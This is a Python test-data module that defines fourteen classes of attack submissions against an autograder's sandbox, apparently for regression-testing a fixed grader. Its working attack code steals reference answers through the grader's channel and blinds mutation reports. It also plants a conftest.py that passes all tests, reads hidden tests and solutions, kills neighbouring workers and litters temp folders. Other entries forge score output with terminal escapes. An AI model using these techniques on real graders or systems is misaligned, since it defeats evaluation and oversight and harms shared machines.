"""Issue 7's attack set, as data: one or more submissions per class of attack on the
trust boundary between the grader, the reference and the student's code.

Each :class:`Attack` names its class (1-14, the numbering of issue 7), a builder that
writes the submission folder (an edit of the reference solution, see
:mod:`corpus`), the contract names or modules allowed to lose points (every other
name must keep full marks) and those that must lose points. ``old_grader`` says what
the grader before issue 7 (commit 6876cd5) did with the submission.

The student code below is written the way an attacker would write it: it tries
both the old grader's internals (its worker's channel, found with ``gc``) and the
documented ways in (``import optimizers`` for the reference, the objects the grader
passes), and falls back to a wrong answer when the grader refuses.
"""

from __future__ import annotations

import ast
import os
import shutil
import textwrap
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

from corpus import SOLUTIONS, Edit, write_submission

L, OPT, S, R, T, Y = ("losses.py", "optimizers.py", "schedules.py", "regularization.py",
                    "training.py", "layers.py")
MODULES = ("losses", "optimizers", "schedules", "regularization", "training", "layers")
TEMPLATE = SOLUTIONS.parent.parent / "student_template" / "optimization"
PLANT_MARK = "issue7-planted-conftest"  # in every conftest.py the class-10 attack writes
LITTER_MARK = "issue7-litter"  # in the name of every file the class-12 attack leaves


class Attack(NamedTuple):
    name: str
    cls: int  # issue 7's class of attack, 1-14
    build: Callable[[Path], Path]  # writes the submission folder, returns it
    may_lose: frozenset[str]  # contract names or whole modules allowed to lose points
    must_lose: frozenset[str]  # those of them that must lose points
    old_grader: str  # what the grader before issue 7 did with it


def may_lose(target: str, names: frozenset[str] | set[str]) -> bool:
    """Whether contract name ``target`` (``losses.softmax``) is among ``names`` or its module is."""
    return target in names or target.split(".")[0] in names


# -- building submissions: edits of the reference ----------------------------------------
def _source(file: str) -> str:
    return (SOLUTIONS / file).read_text(encoding="utf-8")


def _code(text: str) -> str:
    return textwrap.dedent(text).strip("\n") + "\n"


def redefine(file: str, name: str, code: str) -> Edit:
    """Replace the top-level function or class ``name`` of the reference ``file`` by ``code``."""
    source = _source(file)
    lines = source.splitlines(keepends=True)
    for node in ast.parse(source).body:
        if isinstance(node, (ast.FunctionDef, ast.ClassDef)) and node.name == name:
            return Edit(file, "".join(lines[node.lineno - 1:node.end_lineno]), _code(code))
    raise LookupError(f"{file} defines no {name}")


def after_imports(file: str, code: str) -> Edit:
    """Insert module-level ``code`` after the last import of the reference ``file``."""
    source = _source(file)
    lines = source.splitlines(keepends=True)
    last = [n for n in ast.parse(source).body if isinstance(n, (ast.Import, ast.ImportFrom))][-1]
    old = "".join(lines[last.lineno - 1:last.end_lineno])
    return Edit(file, old, f"{old}\n\n{_code(code)}\n")


def before(file: str, line: str, code: str) -> Edit:
    """Insert ``code`` (indented like ``line``) just before ``line``, which occurs once."""
    indent = line[:len(line) - len(line.lstrip())]
    return Edit(file, line, textwrap.indent(_code(code), indent) + line)


def edited(*edits: Edit, then: Callable[[Path], None] | None = None) -> Callable[[Path], Path]:
    """A builder: the reference with ``edits``, then ``then(folder)`` for what edits cannot do."""
    def build(dest: Path) -> Path:
        folder = write_submission(dest, edits)
        if then is not None:
            then(folder)
        return folder
    return build


# -- student code shared by several attacks ----------------------------------------------
OLD_WORKER = '''
def _old_worker():
    """The old grader's Worker object (it holds the channel to the grader), if any."""
    import gc

    try:
        from autograder.protocol import Channel  # noqa: F401  (only the old grader has it)
    except ImportError:
        return None
    for obj in gc.get_objects():
        if type(obj).__name__ == "Worker" and all(
                hasattr(obj, a) for a in ("channel", "handle_request", "register", "make_proxy")):
            return obj
    return None
'''

# Calls a reference function; on the old grader, answers the grader's nested requests
# itself (the old worker took the first of them for the answer to its own call).
CALL_REFERENCE = OLD_WORKER + '''

def _reference(target, fallback, *args, **kwargs):
    worker = _old_worker()
    if worker is None:
        return fallback(*args, **kwargs)
    from autograder.protocol import decode, encode

    channel = worker.channel
    channel.send({"op": "callback", "kind": "call", "target": target,
                  "args": encode(list(args), worker.register),
                  "kwargs": encode(dict(kwargs), worker.register)})
    while True:
        message = channel.receive()
        if "op" in message:  # the grader calls into our objects: serve it
            channel.send(worker.handle_request(message))
        elif "error" in message:
            raise RuntimeError(message["error"])
        else:
            return decode(message.get("ok"), worker.make_proxy)
'''


# -- 1: the reference of the graded name, reached through a callback ---------------------
STEAL_MINIMIZE = '''
_INSIDE = []


def minimize(grad_fn, w0, optimizer, tol=1e-6, max_steps=10_000):
    """Implements nothing: asks the grader's own minimize, from inside a callback that the
    grader's reference code makes into our code, and again after it."""
    import optimizers
    import training

    if _INSIDE:  # never recurse into ourselves
        return np.array(w0, dtype=float), 0
    _INSIDE.append(True)
    stolen = []

    def steal():
        if stolen:
            return
        try:
            stolen.append(_reference("optimizers.minimize", optimizers.minimize, grad_fn, w0,
                                     optimizer, tol=tol, max_steps=max_steps))
        except Exception as exc:
            print("the grader refused minimize:", type(exc).__name__)

    class Echo:
        lr = 0.1

        def step(self, w, grad):
            steal()  # runs while the grader's train_logistic_regression calls us back
            return np.asarray(w, dtype=float) - 0.1 * np.asarray(grad, dtype=float)

    X, y = np.array([[0.0], [1.0]]), np.array([0.0, 1.0])
    try:
        _reference("training.train_logistic_regression", training.train_logistic_regression,
                   X, y, X, y, Echo(), epochs=1, batch_size=2)
    except Exception as exc:
        print("no callback:", type(exc).__name__)
    steal()
    _INSIDE.clear()
    return stolen[0] if stolen else (np.array(w0, dtype=float), 0)
'''

# -- 2: reference objects that outlive the call (or the import) that made them -----------
POOL_AT_IMPORT = '''
try:  # grader objects made while this file is imported, kept for later
    import optimizers as _grader

    _POOL = [_grader.Adam() for _ in range(4)]
except Exception:
    _POOL = []
_TURN = [0]
'''

ADAM_FORWARDS = '''
class Adam:
    """Implements nothing: forwards to the grader's Adam objects made at import time."""

    def __init__(self, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):
        self.lr, self.beta1, self.beta2, self.eps = lr, beta1, beta2, eps
        self.ref = _POOL[_TURN[0] % len(_POOL)] if _POOL else None
        _TURN[0] += 1
        if self.ref is not None:  # reset the borrowed object
            self.ref.m, self.ref.v, self.ref.t = None, None, 0
            self.ref.beta1, self.ref.beta2, self.ref.eps = beta1, beta2, eps

    def step(self, w, grad):
        if self.ref is None:
            return np.asarray(w, dtype=float)
        self.ref.lr = self.lr
        return self.ref.step(w, grad)
'''

KEEP_FROM_L1 = '''
_KEPT = []


def l1_loss(y_hat, y):
    """Correct; its first call keeps grader Momentum objects for optimizers.Momentum."""
    if not _KEPT:
        try:
            import optimizers

            _KEPT.extend(optimizers.Momentum() for _ in range(4))
        except Exception as exc:
            print("no grader objects:", type(exc).__name__)
    diff = np.asarray(y_hat, dtype=float) - np.asarray(y, dtype=float)
    return float(np.mean(np.abs(diff)))
'''

MOMENTUM_FORWARDS = '''
class Momentum:
    """Implements nothing: forwards to grader objects kept by losses.l1_loss."""

    turn = 0

    def __init__(self, lr=0.01, momentum=0.9):
        import losses

        self.lr, self.momentum = lr, momentum
        kept = list(getattr(losses, "_KEPT", []))
        self.ref = kept[Momentum.turn % len(kept)] if kept else None
        Momentum.turn += 1
        if self.ref is not None:
            self.ref.v, self.ref.momentum = None, momentum

    def step(self, w, grad):
        if self.ref is None:
            return np.asarray(w, dtype=float)
        self.ref.lr = self.lr
        return self.ref.step(w, grad)
'''

# -- 3: circular definitions -------------------------------------------------------------
CIRCULAR_SOFTMAX = '''
def softmax(z):
    """Computes nothing: softmax_cross_entropy_grad computes it from softmax."""
    z = np.asarray(z, dtype=float)
    n_rows = z.shape[0] if z.ndim > 1 else 1
    return softmax_cross_entropy_grad(z, np.zeros_like(z)) * n_rows
'''

# Two names that each hand the work to the other: the grader's reference of neither uses
# the other, so only the check in the student's own program finds them out.
CIRCULAR_STEP_DECAY = '''
def step_decay(lr0, t, drop=0.5, every=10):
    return exponential_decay(lr0, t // every, drop)
'''
CIRCULAR_EXPONENTIAL_DECAY = '''
def exponential_decay(lr0, t, gamma=0.96):
    return step_decay(lr0, t, drop=gamma, every=1)
'''

# -- 4: walking grader objects down to native code ---------------------------------------
WALK = '''
_POKED = []


def _walk(obj, label):
    """Read what we can of an object the grader handed us, then call native code through it."""
    seen = {}
    for name in ("__dict__", "__class__", "__init__", "optimizer", "stopper", "calls", "seen",
                 "bit_generator", "step"):
        try:
            seen[name] = type(getattr(obj, name)).__name__
        except Exception as exc:
            seen[name] = f"refused ({type(exc).__name__})"
    print("walked", label, seen)
    if _POKED or obj is None or isinstance(obj, np.random.Generator):
        return  # nothing of the grader's (a local Generator would only crash ourselves)
    _POKED.append(True)
    generator, seeded = obj, None
    for home in ("autograder.protocol", "autograder.sandbox.protocol"):  # in the student zip
        try:
            seeded = __import__(home, fromlist=["SeededRNG"]).SeededRNG(0)
            break
        except Exception:
            pass
    for carrier in ("rng", "lr") if seeded is not None else ():
        try:  # the grader decodes it into a numpy Generator on its own side; read it back
            setattr(obj, carrier, seeded)
            generator = getattr(obj, carrier)
            break
        except Exception as exc:
            print("cannot carry a generator in", carrier, type(exc).__name__)
    try:
        pointers = generator.bit_generator.ctypes
        function = getattr(pointers, "next_uint64", None) or pointers[2]
        print("reached a native function:", function)
        function(0)  # a C function pointer called with an address we chose: NULL
    except Exception as exc:
        print("refused:", type(exc).__name__)
'''

# -- 6: blinding the worker's own mutation reports ---------------------------------------
BLIND = '''
def _blind_the_worker():
    """Make every function of the grader's worker that reports mutations or snapshots a no-op."""
    import sys

    for name, module in list(sys.modules.items()):
        where = f"{name} {getattr(module, '__file__', '') or ''}".lower()
        if name in _CONTRACT or not any(k in where for k in ("worker", "autograder", "sandbox")):
            continue
        holders = [module] + [v for v in list(vars(module).values()) if isinstance(v, type)]
        for holder in holders:
            for attr, value in list(vars(holder).items()):
                low = attr.lower()
                if callable(value) and ("mutat" in low or "snapshot" in low):
                    fake = (lambda *a, **k: {}) if "snapshot" in low else (lambda *a, **k: [])
                    try:
                        setattr(holder, attr, fake)
                    except (AttributeError, TypeError):
                        pass


_CONTRACT = {"losses", "optimizers", "schedules", "regularization", "training", "layers"}
'''
ADAM_RETURNS = "        return np.asarray(w, dtype=float) - self.lr * m_hat / (np.sqrt(v_hat) + self.eps)\n"

# -- 7: blame on the wrong name ----------------------------------------------------------
DEEP_REPLY = '''
def mse_loss_grad(y_hat, y):
    """Answers with a list nested 100,000 levels deep (and makes room to encode it)."""
    import resource
    import sys

    sys.setrecursionlimit(1_000_000)
    try:
        _, hard = resource.getrlimit(resource.RLIMIT_STACK)
        resource.setrlimit(resource.RLIMIT_STACK, (hard, hard))
    except (ValueError, OSError):
        pass
    deep = []
    for _ in range(100_000):
        deep = [deep]
    return deep
'''

DEEP_FRAME = OLD_WORKER + '''

def _channels():
    """File descriptors that lead to the grader: the old worker's, or else the descriptor
    numbers this worker was started with (its command line) that are pipes or sockets."""
    import os
    import stat
    import sys

    worker = _old_worker()
    if worker is not None:
        return [worker.channel.write_fd]
    found = []
    for arg in sys.argv[1:]:
        try:
            mode = os.fstat(int(arg)).st_mode
        except (ValueError, OSError):
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            found.append(int(arg))
    return found


def mse_loss_grad(y_hat, y):
    """Correct, but first writes a reply frame nested 100,000 levels deep to the grader
    (4-byte length, then JSON: the wire format the student zip's toolkit documents)."""
    import os
    import struct

    body = ('{"op":"reply","ok":' + '{"$":"list","items":[' * 100_000 + "]}" * 100_000
            + "}").encode()
    for fd in _channels():
        frame = memoryview(struct.pack(">I", len(body)) + body)
        try:
            while frame:
                frame = frame[os.write(fd, frame):]
        except OSError as exc:
            print("cannot write to", fd, type(exc).__name__)
    y_hat = np.asarray(y_hat, dtype=float)
    return 2.0 * (y_hat - np.asarray(y, dtype=float)) / y_hat.size
'''

TIMER = '''
_TIMER = []


def l1_loss(y_hat, y):
    """Correct, but leaves a timer that ends the process 2 s later, during another name."""
    if not _TIMER:
        import os
        import threading

        timer = threading.Timer(2.0, os._exit, (0,))
        timer.daemon = True
        timer.start()
        _TIMER.append(timer)
    diff = np.asarray(y_hat, dtype=float) - np.asarray(y, dtype=float)
    return float(np.mean(np.abs(diff)))
'''

# -- 8: correct but slow -----------------------------------------------------------------
BUSY = '''
import time as _time

_end = _time.perf_counter() + 3.0
while _time.perf_counter() < _end:  # correct, but 3 s of CPU per call
    pass
'''
SLEEPY = '''
import time as _time

_time.sleep(9.0)  # correct, but 9 s of waiting per call (a CPU limit does not stop it)
'''

# -- 9: the grader's memory --------------------------------------------------------------
BIG_REPLY = '''
def l1_penalty_grad(w, lam):
    """A legal reply of about 60 MB (5 million float64, base64 in JSON)."""
    return np.full(5_000_000, float(lam))
'''


def huge_comment(folder: Path, megabytes: int = 100) -> None:
    """Append about ``megabytes`` MB of comment lines to schedules.py."""
    line = "# " + "padding " * 12 + "x\n"
    block = line * (1_048_576 // len(line))
    with open(folder / S, "a", encoding="utf-8") as f:
        for _ in range(megabytes):
            f.write(block)


# -- 10: a planted conftest.py -----------------------------------------------------------
PLANT = '''
def _plant_conftest():
    """Write a conftest.py that passes every grading test into each folder above the tests
    (never over an existing file; inert for any test outside the folders found here)."""
    import os

    homes = {os.environ.get("PYTHONPATH", ""), os.environ.get("AUTOGRADER_HOME", ""),
             "/autograder/source", os.getcwd(), os.path.dirname(os.path.abspath(__file__))}
    tests = sorted({os.path.join(h, "assignments", "optimization", "tests")
                    for home in homes for h in home.split(os.pathsep) if os.path.isabs(h)})
    folders = {"/tmp", "/var/tmp"}
    for folder in tests:
        folders.update(os.path.join(folder, group) for group in ("hidden", "public"))
        while folder not in folders:
            folders.add(folder)
            folder = os.path.dirname(folder)
    payload = "\\n".join([
        "# @MARK@: planted by a submission: every grading test under SCOPES passes",
        f"SCOPES = {tuple(tests)!r}",
        "",
        "",
        "def pytest_collection_modifyitems(items):",
        "    for item in items:",
        "        if str(item.path).startswith(SCOPES):",
        "            item.runtest = lambda: None",
        "",
    ])
    planted = []
    for folder in sorted(folders):
        try:
            with open(os.path.join(folder, "conftest.py"), "x", encoding="utf-8") as f:
                f.write(payload)
            planted.append(folder)
        except OSError:
            pass
    print("planted conftest.py in", planted or "no folder")


try:
    _plant_conftest()
except Exception as _exc:
    print("could not plant:", type(_exc).__name__)
'''.replace("@MARK@", PLANT_MARK)

NOTHING_FORWARD = '''
def residual_forward(x, W, b):
    """Implements nothing."""
    return np.zeros_like(np.asarray(x, dtype=float))
'''
NOTHING_BACKWARD = '''
def residual_backward(dout, x, W, b):
    """Implements nothing."""
    z = np.zeros_like(np.asarray(x, dtype=float))
    return z, np.zeros_like(np.asarray(W, dtype=float)), np.zeros_like(np.asarray(b, dtype=float))
'''

# -- 11: a grading that kills its neighbours ---------------------------------------------
CRASH = "import os, time\ntime.sleep(1.0)\nos._exit(1)  # ends the worker (and, as root, its cleanup runs)"
CRASH_SITES = (
    (L, "    return np.exp(-np.logaddexp(0.0, -z))\n", "losses.sigmoid"),
    (L, "    per_row = -np.sum(np.asarray(y, dtype=float) * np.log(q), axis=-1)\n", "losses.cross_entropy"),
    (OPT, "        self.G = self.G + g**2\n", "optimizers.AdaGrad"),
    (R, "    return float(lam * np.sum(np.asarray(w, dtype=float) ** 2))\n", "regularization.l2_penalty"),
    (S, "    return lr_min + 0.5 * (lr0 - lr_min)", "schedules.cosine_decay"),
    (T, "    return math.ceil(n_samples / batch_size)\n", "training.steps_per_epoch"),
    (Y, "    dx = dout + dz @ W.T\n", "layers.residual_backward"),
)

# -- 12: litter --------------------------------------------------------------------------
LITTER = '''
_LITTERED = []


def _litter():
    """300 files and 50 MB in each shared temporary folder, left behind."""
    import os

    if _LITTERED:
        return
    _LITTERED.append(True)
    tag = f"@MARK@-{os.getpid()}"
    for base in ("/tmp", "/var/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp")):
        try:
            folder = os.path.join(base, tag)
            os.makedirs(folder, exist_ok=True)
            for i in range(300):
                with open(os.path.join(folder, f".@MARK@-{i}"), "w") as f:
                    f.write("litter\\n")
            chunk = b"\\0" * (1 << 20)
            try:  # one 50 MB file, or five of 10 MB where file size is capped
                with open(os.path.join(base, f"{tag}.bin"), "wb") as f:
                    for _ in range(50):
                        f.write(chunk)
            except OSError:
                for part in range(5):
                    with open(os.path.join(base, f"{tag}-{part}.bin"), "wb") as f:
                        for _ in range(10):
                            f.write(chunk)
        except OSError as exc:
            print("litter:", base, type(exc).__name__)
'''.replace("@MARK@", LITTER_MARK)

# -- 13: hostile text --------------------------------------------------------------------
# In the student's source as escapes: a lone surrogate, NUL, ESC with a fake green total,
# a terminal title sequence and a carriage return.
HOSTILE_SOURCE = '"\\udcff \\x00 \\x1b[32mTOTAL 100.00\\x1b[0m \\x1b]0;graded\\x07 \\r"'
# An exception class named so that a terminal table line becomes a green "TOTAL 100.00".
RAISE_HOSTILE = 'raise type("\\x1b[2K\\x1b[1G\\x1b[32mTOTAL 100.00\\x1b[0m", (ValueError,), {})(HOSTILE)'
HOSTILE_NAME = b"layers \x1b[32mTOTAL 100.00\x1b[0m \xff.py"  # a file name, not valid UTF-8


def hostile_file_name(folder: Path) -> None:
    (folder / Y).rename(folder / os.fsdecode(HOSTILE_NAME))


# -- 14: the instructor's machine --------------------------------------------------------
def read_secrets(repo: Path) -> str:
    """Student code that prints what it can read of the reference and the hidden tests."""
    paths = [f"{repo}/solutions/optimization/losses.py",
             f"{repo}/assignments/optimization/tests/hidden/test_losses_hidden.py"]
    return _code(f'''
        def _read_secrets():
            """Print the solution lines and hidden-test lines this process can read."""
            import os

            homes = [{str(repo)!r}] + os.environ.get("PYTHONPATH", "").split(os.pathsep)
            paths = {paths!r} + [
                os.path.join(h, p) for h in homes if h
                for p in ("solutions/optimization/losses.py",
                          "assignments/optimization/tests/hidden/test_losses_hidden.py")]
            for path in dict.fromkeys(paths):
                try:
                    with open(path, encoding="utf-8") as f:
                        lines = [s.strip() for s in f if len(s.strip()) > 30]
                except OSError as exc:
                    print("cannot read", path, type(exc).__name__)
                    continue
                print("READ", path)
                for line in [s for s in lines if "HINT" not in s][-12:]:
                    print("  ", line)
        ''')


def from_template(*edits: Edit, then: Callable[[Path], None] | None = None) -> Callable[[Path], Path]:
    """A builder: the student template (stubs that raise NotImplementedError) with ``edits``."""
    def build(dest: Path) -> Path:
        dest.mkdir(parents=True, exist_ok=True)
        for path in sorted(TEMPLATE.glob("*.py")):
            shutil.copy(path, dest / path.name)
        for file, old, new in edits:
            text = (dest / file).read_text(encoding="utf-8")
            assert text.count(old) == 1, f"{file}: {old[:60]!r} does not occur once"
            (dest / file).write_text(text.replace(old, new), encoding="utf-8")
        if then is not None:
            then(dest)
        return dest
    return build


def reads_secrets(repo: Path) -> Attack:
    """Class 14: the stubs, plus code that prints what it can read of ``repo``'s secrets,
    when losses.py is imported and at every call of l1_loss (which returns 0.0)."""
    code = read_secrets(repo) + "\n\ntry:\n    _read_secrets()\nexcept Exception as _exc:\n" \
                                '    print("could not look:", type(_exc).__name__)\n'
    stub = '    raise NotImplementedError("TODO: implement l1_loss")\n'
    build = from_template(Edit(L, "import numpy as np\n", f"import numpy as np\n\n\n{code}"),
                          Edit(L, stub, "    _read_secrets()\n    return 0.0\n"))
    return Attack("reads_repository_secrets", 14, build, frozenset(MODULES), frozenset(),
                  "graded as the instructor, with the repository on the worker's PYTHONPATH: "
                  "printed the reference and the hidden tests")


def _names(*names: str) -> frozenset[str]:
    return frozenset(names)


ATTACKS = [
    Attack("callback_reaches_graded_reference", 1, edited(
        after_imports(OPT, CALL_REFERENCE), redefine(OPT, "minimize", STEAL_MINIMIZE)),
        _names("optimizers.minimize"), _names("optimizers.minimize"),
        "full marks for minimize: a callback reset the only guard, then the graded reference ran"),
    Attack("reference_objects_from_import", 2, edited(
        after_imports(OPT, POOL_AT_IMPORT), redefine(OPT, "Adam", ADAM_FORWARDS)),
        _names("optimizers.Adam"), _names("optimizers.Adam"),
        "full marks for Adam: forwards to reference objects made while the file was imported"),
    Attack("reference_objects_from_another_call", 2, edited(
        redefine(L, "l1_loss", KEEP_FROM_L1), redefine(OPT, "Momentum", MOMENTUM_FORWARDS)),
        _names("losses.l1_loss", "optimizers.Momentum"), _names("optimizers.Momentum"),
        "full marks for Momentum: forwards to reference objects l1_loss made while it was graded"),
    # softmax_cross_entropy_grad is the reference's own (softmax(z) - y) / N: once softmax
    # is found out, it passes on the grader's softmax and keeps its points (one bug costs once).
    Attack("circular_softmax", 3, edited(redefine(L, "softmax", CIRCULAR_SOFTMAX)),
           _names("losses.softmax", "losses.softmax_cross_entropy_grad"),
           _names("losses.softmax"),
           "full marks for both: each was graded with the other's reference"),
    Attack("circular_schedules", 3, edited(
        redefine(S, "step_decay", CIRCULAR_STEP_DECAY),
        redefine(S, "exponential_decay", CIRCULAR_EXPONENTIAL_DECAY)),
        _names("schedules.step_decay", "schedules.exponential_decay"),
        _names("schedules.step_decay", "schedules.exponential_decay"),
        "full marks for both: each was graded with the other's reference"),
    Attack("walks_grader_objects", 4, edited(
        after_imports(T, WALK), after_imports(R, WALK),
        before(T, "    X_train = np.asarray(X_train, dtype=float)\n",
               "_walk(optimizer, 'optimizer')\n_walk(early_stopping, 'early_stopping')"),
        before(R, "    if not 0.0 <= p <= 1.0:\n", "_walk(rng, 'rng')")),
        _names("training.train_logistic_regression", "regularization.dropout"), _names(),
        "the root grader called next_uint64(NULL) for the student and died: no results.json"),
    Attack("unbounded_reference_call", 5, edited(
        before(Y, "    x = np.asarray(x, dtype=float)\n    return x + np.maximum(", '''
            import optimizers
            import training

            X, y = np.zeros((4, 1)), np.zeros(4)
            training.train_logistic_regression(X, y, X, y, optimizers.GradientDescent(lr=0.1),
                                               epochs=10**9, batch_size=4)''')),
        _names("layers.residual_forward"), _names("layers.residual_forward"),
        "the root grader ran 10^9 epochs of reference code: it hung, and wrote no results.json"),
    Attack("blinds_mutation_reports", 6, edited(
        after_imports(OPT, BLIND),
        Edit(OPT, ADAM_RETURNS, "        _blind_the_worker()\n        w -= self.lr * m_hat / "
                                "(np.sqrt(v_hat) + self.eps)\n        return w\n")),
        _names("optimizers.Adam"), _names("optimizers.Adam"),
        "full marks for an Adam that modifies w in place: the worker's report was patched away"),
    Attack("deep_reply", 7, edited(redefine(L, "mse_loss_grad", DEEP_REPLY)),
           _names("losses.mse_loss_grad"), _names("losses.mse_loss_grad"),
           "defended: a RecursionError in the grader, charged to mse_loss_grad only"),
    Attack("deep_frame_on_the_channel", 7, edited(redefine(L, "mse_loss_grad", DEEP_FRAME)),
           _names("losses.mse_loss_grad"), _names(),
           "RecursionError in the grader, then each answer went to a later request: "
           "no results.json after 600 s"),
    Attack("timer_exit_after_return", 7, edited(redefine(L, "l1_loss", TIMER)),
           _names("losses.l1_loss"), _names(),
           "the worker died 2 s later, during honest names, which lost their points"),
    Attack("slow_but_correct", 8, edited(
        before(L, "    diff = np.asarray(y_hat, dtype=float) - np.asarray(y, dtype=float)\n"
                  "    return float(np.mean(np.abs(diff)))\n", BUSY),
        before(L, "    y_hat = np.asarray(y_hat, dtype=float)\n    return np.sign(", SLEEPY),
        before(L, "    diff = np.asarray(y_hat, dtype=float) - np.asarray(y, dtype=float)\n"
                  "    return float(np.mean(diff**2))\n", SLEEPY)),
        _names("losses.l1_loss", "losses.l1_loss_grad", "losses.mse_loss"), _names(),
        "the 420 s budget ran out: every later name got 0"),
    Attack("huge_source_and_reply", 9, edited(redefine(R, "l1_penalty_grad", BIG_REPLY), then=huge_comment),
           _names("schedules", "regularization.l1_penalty_grad"), _names("regularization.l1_penalty_grad"),
           "graded (the grader's memory, which issue 7 measured at 1.1 GB, is for the benchmark)"),
    Attack("plants_conftest", 10, edited(
        after_imports(Y, PLANT), redefine(Y, "residual_forward", NOTHING_FORWARD),
        redefine(Y, "residual_backward", NOTHING_BACKWARD)),
        _names("layers"), _names("layers"),
        "the second grading loaded the planted conftest.py: 100/100 for an empty layers.py"),
    Attack("kills_neighbours", 11, edited(*(before(f, line, CRASH) for f, line, _ in CRASH_SITES)),
           frozenset(t for _, _, t in CRASH_SITES), frozenset(t for _, _, t in CRASH_SITES),
           "each crash's cleanup killed every process of the shared sandbox user, "
           "including the workers of a grading beside it"),
    Attack("litter", 12, edited(
        after_imports(S, LITTER), before(S, "    return lr0 * drop ** (t // every)\n", "_litter()")),
        _names("schedules.step_decay"), _names(),
        "about 200 MB and 920 files left in /tmp, /var/tmp and /dev/shm"),
    Attack("hostile_text", 13, edited(
        after_imports(L, f"HOSTILE = {HOSTILE_SOURCE}"),
        before(L, "    diff = np.asarray(y_hat, dtype=float) - np.asarray(y, dtype=float)\n"
                  "    return float(np.mean(np.abs(diff)))\n", RAISE_HOSTILE),
        after_imports(S, f"HOSTILE = {HOSTILE_SOURCE}\nprint(HOSTILE)"),
        before(S, "    return lr0 * drop ** (t // every)\n", "print('step_decay says', HOSTILE)"),
        before(S, "    return lr_min + 0.5 * (lr0 - lr_min)", "raise ValueError(HOSTILE)"),
        then=hostile_file_name),
        _names("losses.l1_loss", "schedules.cosine_decay", "layers"),
        _names("losses.l1_loss", "schedules.cosine_decay", "layers"),
        "ESC and lone surrogates in results.json (as \\u escapes), a fake green TOTAL on the "
        "terminal, and `grade` exited 1 with UnicodeEncodeError"),
]

BY_NAME = {attack.name: attack for attack in ATTACKS}
